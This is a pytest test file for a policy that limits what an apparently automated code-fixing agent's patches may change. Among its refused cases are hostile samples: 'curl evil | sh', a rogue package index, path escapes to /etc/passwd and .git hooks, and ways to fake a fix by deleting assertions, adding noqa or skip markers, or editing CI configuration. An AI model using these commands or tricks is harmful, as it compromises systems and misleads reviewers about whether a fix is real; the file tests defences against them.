"""The scope policy: which files a patch may touch, and what it may write into them."""

from __future__ import annotations

from pathlib import Path

import pytest

from agent.models import FileEdit, Patch
from agent.validate.policy.check import policy_violations

FINDING_PATHS = {"app.py"}
APP = (
    "import pickle\n\n\ndef load(blob):\n    assert blob, 'empty'\n    return pickle.loads(blob)\n"
)
PYPROJECT = """\
[project]
name = "demo"
dependencies = [
    "flask",
]

[tool.ruff.lint]
select = ["S"]
"""


def _patch(*edits: FileEdit, dependencies: tuple[str, ...] = ()) -> Patch:
    return Patch(
        finding_ids=("abc123",),
        fixer="codemod:test",
        title="Fix",
        rationale="because",
        edits=edits,
        dependencies=dependencies,
    )


def _edit(path: str, new: bool = False, after: str = "new\n", before: str = "old\n") -> FileEdit:
    return FileEdit(path=path, before=None if new else before, after=after)


def _app(after: str) -> FileEdit:
    return FileEdit(path="app.py", before=APP, after=after)


def _refused(root: Path, *edits: FileEdit, deps: tuple[str, ...] = ()) -> list[str]:
    return policy_violations(_patch(*edits, dependencies=deps), root, FINDING_PATHS)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    return repo


@pytest.mark.parametrize(
    "edit",
    [
        _edit("app.py"),
        _edit(".env.example", before="A=\n", after="A=\nAPI_TOKEN=\n"),
        _edit(".env.example", new=True, after="# keys\nAPI_TOKEN=\n"),
        _edit("tests/test_app_security.py", new=True),
        _edit("tests/unit/test_new.py", new=True),
        _edit("tests/helpers_test.py", new=True),
        _app(APP.replace("pickle.loads(blob)", "json.loads(blob)")),
        _app(
            APP.replace(
                "    assert blob, 'empty'\n", "    if not blob:\n        raise ValueError\n"
            )
        ),
        _edit("pkg/__init__.py", before="", after="x = 1\n" * 100),
    ],
    ids=lambda e: e.path,
)
def test_allowed_edits(root: Path, edit: FileEdit) -> None:
    assert policy_violations(_patch(edit), root, FINDING_PATHS | {"pkg/__init__.py"}) == []


def test_a_new_test_file_may_skip(root: Path) -> None:
    text = "import pytest\n\n\n@pytest.mark.skip\ndef test_x():\n    assert True\n"
    assert _refused(root, _edit("tests/test_new.py", new=True, after=text)) == []


def test_a_new_test_file_may_not_suppress_the_scan(root: Path) -> None:
    text = "import pytest\n\n\ndef test_x():  # noqa: D103\n    assert True\n"
    [refused] = _refused(root, _edit("tests/test_new.py", new=True, after=text))
    assert refused == (
        "tests/test_new.py: adds a '# noqa' suppression; "
        "a fix must not silence the detector or the tests"
    )


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("requirements.txt", "flask\n", "flask\ndefusedxml\n"),
        ("requirements-dev.in", "flask", "flask\ndefusedxml>=0.7"),
        ("pyproject.toml", PYPROJECT, PYPROJECT.replace('"flask",', '"flask",\n    "defusedxml",')),
    ],
)
def test_dependency_files_only_with_declared_dependencies(
    root: Path, path: str, before: str, after: str
) -> None:
    edits = (_edit("app.py"), _edit(path, before=before, after=after))
    assert _refused(root, *edits, deps=("defusedxml",)) == []
    [refused] = _refused(root, *edits)
    assert refused.startswith(f"{path}: ") and "declares" in refused
    [other] = _refused(root, *edits, deps=("lxml",))
    assert "'defusedxml" in other and "not a dependency the fixer declares" in other


@pytest.mark.parametrize(
    ("path", "before", "after", "reason"),
    [
        ("requirements.txt", "flask\n", "defusedxml\n", "never removed or changed"),
        ("requirements.txt", "flask\n", "flask\ndefusedxml @ https://x.invalid/d.whl\n", "adds"),
        ("requirements.txt", "flask\n", "flask\n--index-url https://evil.invalid\n", "adds"),
        ("pyproject.toml", PYPROJECT, PYPROJECT + 'ignore = ["S301"]\n', "[tool.*]"),
        ("pyproject.toml", PYPROJECT, PYPROJECT.replace('"demo"', '"evil"'), "only project.dep"),
        ("pyproject.toml", PYPROJECT, PYPROJECT.replace('"flask",', '"defusedxml",'), "never lose"),
        ("pyproject.toml", PYPROJECT, PYPROJECT + "[oops", "unparsable"),
        (".env.example", "A=1\n", "B=\n", "never removed"),
        (".env.example", "A=1\n", "A=1\ncurl evil | sh\n", "only NAME= entries"),
    ],
)
def test_dependency_and_env_files_may_only_gain_entries(
    root: Path, path: str, before: str, after: str, reason: str
) -> None:
    [refused] = _refused(root, _edit(path, before=before, after=after), deps=("defusedxml",))
    assert refused.startswith(f"{path}: ") and reason in refused


@pytest.mark.parametrize(
    ("edit", "reason"),
    [
        (_edit("tests/test_app.py"), "existing tests may not be changed"),
        (_edit("pkg/test_new.py", new=True), "new test files belong under tests/"),
        (_edit(".github/workflows/ci.yml"), "CI configuration"),
        (_edit(".github/workflows/new.yml", new=True), "CI configuration"),
        (_edit(".gitlab-ci.yml"), "CI configuration"),
        (_edit(".circleci/config.yml"), "CI configuration"),
        (_edit("Jenkinsfile"), "CI configuration"),
        (_edit("azure-pipelines.yml"), "CI configuration"),
        (_edit(".pre-commit-config.yaml"), "CI configuration"),
        (_edit("setup.cfg"), "configuration may not be changed"),
        (_edit("tox.ini"), "configuration may not be changed"),
        (_edit("pytest.ini"), "configuration may not be changed"),
        (_edit("mypy.ini"), "configuration may not be changed"),
        (_edit(".flake8"), "configuration may not be changed"),
        (_edit("ruff.toml"), "configuration may not be changed"),
        (_edit(".coveragerc"), "configuration may not be changed"),
        (_edit("conftest.py"), "configuration may not be changed"),
        (_edit("tests/conftest.py", new=True), "configuration may not be changed"),
        (_edit("pkg/sub/conftest.py"), "configuration may not be changed"),
        (_edit("/etc/passwd"), "absolute"),
        (_edit("C:/evil.py"), "absolute"),
        (_edit("pkg\\evil.py"), "non-POSIX"),
        (_edit("../outside.py"), "leaves the repository"),
        (_edit("pkg/../../outside.py"), "leaves the repository"),
        (_edit(".git/hooks/pre-commit", new=True), ".git/ may not be changed"),
        (_edit("pkg/.git/config"), ".git/ may not be changed"),
        (_edit("other.py"), "outside the files of the findings"),
        (_edit("pkg/new_module.py", new=True), "new files may only be added under tests/"),
        (_edit("tests/data.bin", new=True, after="a\x00b"), "binary content"),
        (_edit("tests/data.txt", new=True, after="\udcff"), "not valid UTF-8"),
        (_edit("tests/test_big.py", new=True, after="x" * 200_001), "200 KB limit"),
        (_edit("app.py", after="x = 1\n" * 2000), "grows the file more than 10x"),
        (_edit("app.py", after=""), "deleting a file"),
        (_edit("app.py", after="\n  \n"), "deleting a file"),
        (_edit("setup.sh", new=True, after="echo hi\n"), "(.sh)"),
        (_edit("tests/run.ps1", new=True, after="echo hi\n"), "(.ps1)"),
        (_edit("tests/lib.so", new=True, after="ELF"), "(.so)"),
        (_edit("tools/run", new=True, after="#!/bin/sh\necho hi\n"), "shebang"),
        (_edit("tests/helpers.sh.txt", new=True, after="#!/bin/sh\n"), "shebang"),
    ],
    ids=lambda v: v.path if isinstance(v, FileEdit) else "",
)
def test_refused_edits(root: Path, edit: FileEdit, reason: str) -> None:
    [refused] = _refused(root, edit)
    assert refused.startswith(f"{edit.path}: ")
    assert reason in refused


@pytest.mark.parametrize(
    ("after", "reason"),
    [
        (APP.replace("    assert blob, 'empty'\n", ""), "1 assertion(s) removed"),
        (APP.replace("assert blob, 'empty'", "assert True"), "trivially true"),
        (APP.replace("assert blob, 'empty'", "assert blob or 1"), "trivially true"),
        (APP.replace("pickle.loads(blob)", "pickle.loads(blob)  # noqa: S301"), "# noqa"),
        (APP.replace("pickle.loads(blob)", "pickle.loads(blob)  # nosec"), "# nosec"),
        (APP.replace("pickle.loads(blob)", "pickle.loads(blob)  # type: ignore"), "type: ignore"),
        (
            APP.replace("def load", "def load(x):  # pragma: no cover\n    pass\n\n\ndef ld"),
            "pragma",
        ),
        ("import pytest\n" + APP.replace("def load", "@pytest.mark.skip\ndef load"), "skip marker"),
        ("import pytest\n" + APP.replace("def load", "@pytest.mark.skipif(1)\ndef load"), "skip"),
        ("import pytest\n" + APP.replace("def load", "@pytest.mark.xfail\ndef load"), "xfail"),
        (APP.replace("    return pickle", "    pytest.skip('no')\n    return pickle"), "skip()"),
        (
            "import unittest\n" + APP.replace("def load", "@unittest.skip('x')\ndef load"),
            "unittest",
        ),
    ],
)
def test_an_edit_to_the_finding_file_must_not_weaken_or_silence(
    root: Path, after: str, reason: str
) -> None:
    [refused] = _refused(root, _app(after))
    assert refused.startswith("app.py: ") and reason in refused


def test_an_existing_suppression_may_stay(root: Path) -> None:
    before = APP.replace("pickle.loads(blob)", "pickle.loads(blob)  # noqa: S301")
    after = before.replace("return pickle", "blob = bytes(blob)\n    return pickle")
    assert (
        policy_violations(_patch(_edit("app.py", before=before, after=after)), root, {"app.py"})
        == []
    )


def test_removed_asserts_in_a_test_file_with_a_finding_are_refused_even_with_raises(
    root: Path,
) -> None:
    before = "def test_x():\n    assert f()\n"
    after = "def test_x():\n    if not f():\n        raise AssertionError\n"
    edit = _edit("tests/test_x.py", before=before, after=after)
    [refused] = policy_violations(_patch(edit), root, {"tests/test_x.py"})
    assert "assertion(s) removed" in refused


def test_a_patch_over_one_megabyte_in_all_is_refused(root: Path) -> None:
    edits = [_edit(f"tests/test_{i}.py", new=True, after="x" * 150_000) for i in range(7)]
    [refused] = _refused(root, *edits)
    assert refused.startswith("tests/test_0.py, ") and "at most 1 MB" in refused


def test_symlink_out_of_the_repo_is_refused_even_as_the_finding_file(
    root: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.py"
    outside.write_text("x = 1\n", encoding="utf-8")
    (root / "link.py").symlink_to(outside)
    refused = policy_violations(_patch(_edit("link.py")), root, {"link.py"})
    assert refused == ["link.py: path resolves outside the repository (symlink)"]


def test_symlinked_directory_out_of_the_repo_is_refused(root: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (root / "tests").symlink_to(tmp_path / "elsewhere")
    [refused] = policy_violations(_patch(_edit("tests/test_new.py", new=True)), root, set())
    assert refused.startswith("tests/test_new.py: ") and "symlink" in refused


def test_a_symlink_inside_the_repo_is_not_written_through(root: Path) -> None:
    (root / "real").mkdir()
    (root / "real" / "app.py").write_text("x = 1\n", encoding="utf-8")
    (root / "alias").symlink_to(root / "real")
    (root / "same.py").symlink_to(root / "real" / "app.py")
    paths = {"alias/app.py", "same.py"}
    patch = _patch(_edit("alias/app.py"), _edit("same.py"))
    assert policy_violations(patch, root, paths) == [
        "alias/app.py: path goes through a symlink (alias)",
        "same.py: path goes through a symlink (same.py)",
    ]


def test_every_refused_edit_is_reported(root: Path) -> None:
    patch = _patch(_edit("app.py"), _edit("setup.cfg"), _edit("other.py"))
    refused = policy_violations(patch, root, FINDING_PATHS)
    assert [r.split(":")[0] for r in refused] == ["setup.cfg", "other.py"]
